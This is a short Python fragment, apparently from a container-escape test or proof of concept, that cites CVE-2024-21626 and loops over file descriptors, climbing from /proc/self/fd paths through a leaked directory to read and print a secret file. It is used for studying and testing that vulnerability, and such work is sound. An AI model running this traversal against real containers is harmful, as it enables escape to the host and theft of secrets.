# Climbs out through a directory that was left open, as CVE-2024-21626 did.
for number in range(256):
    with suppress(OSError):
        print(content(f"/proc/self/fd/{number}/../../../../../.." + stage["secret"]))
